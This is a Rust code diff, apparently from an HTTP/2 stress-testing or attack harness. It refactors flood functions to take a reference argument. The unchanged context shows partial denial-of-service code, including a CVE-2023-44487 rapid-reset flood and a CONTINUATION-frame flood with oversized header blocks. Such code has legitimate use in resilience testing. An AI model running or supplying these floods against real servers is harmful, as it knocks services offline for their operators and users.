@@ -15,9 +15,9 @@ use crate::frames::{
 use crate::wire::connect;
 
 /// Requests that are refused, on connections that stay.
-pub fn refusals(means: Means) -> Vec<JoinHandle<()>> {
+pub fn refusals(means: &Means) -> Vec<JoinHandle<()>> {
     let port = means.plain;
-    repeat(&means, 16, move |number| async move {
+    repeat(means, 16, move |number| async move {
         let Some(mut stream) = connect(address(number), port).await else {
             return;
         };
@@ -41,7 +41,7 @@ pub fn refusals(means: Means) -> Vec<JoinHandle<()>> {
     })
 }
 
-pub fn handshakes(means: Means) -> Vec<JoinHandle<()>> {
+pub fn handshakes(means: &Means) -> Vec<JoinHandle<()>> {
     let mut roots = rustls::RootCertStore::empty();
     roots.add_parsable_certificates([]);
     let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
@@ -52,7 +52,7 @@ pub fn handshakes(means: Means) -> Vec<JoinHandle<()>> {
         .with_no_client_auth();
     let connector = TlsConnector::from(Arc::new(config));
     let port = means.tls;
-    repeat(&means, 64, move |number| {
+    repeat(means, 64, move |number| {
         let connector = connector.clone();
         async move {
             let Some(stream) = connect(address(number), port).await else {
@@ -90,9 +90,9 @@ async fn flood(number: usize, port: u16, opening: &[u8], next: impl Fn(u32) -> V
 }
 
 /// CVE-2023-44487.
-pub fn rapid_reset(means: Means) -> Vec<JoinHandle<()>> {
+pub fn rapid_reset(means: &Means) -> Vec<JoinHandle<()>> {
     let port = means.plain;
-    repeat(&means, 16, move |number| async move {
+    repeat(means, 16, move |number| async move {
         let reset = |round: u32| {
             let stream = round * 2 + 1;
             let open = frame(HEADERS, END_STREAM | END_HEADERS, stream, GET_ROOT);
@@ -103,9 +103,9 @@ pub fn rapid_reset(means: Means) -> Vec<JoinHandle<()>> {
 }
 
 /// A head without an end.
-pub fn continuation(means: Means) -> Vec<JoinHandle<()>> {
+pub fn continuation(means: &Means) -> Vec<JoinHandle<()>> {
     let port = means.plain;
-    repeat(&means, 16, move |number| async move {
+    repeat(means, 16, move |number| async move {
         let header = [&[0x00, 0x01, b'a', 100][..], &[b'x'; 100]]
             .concat()
             .repeat(100);
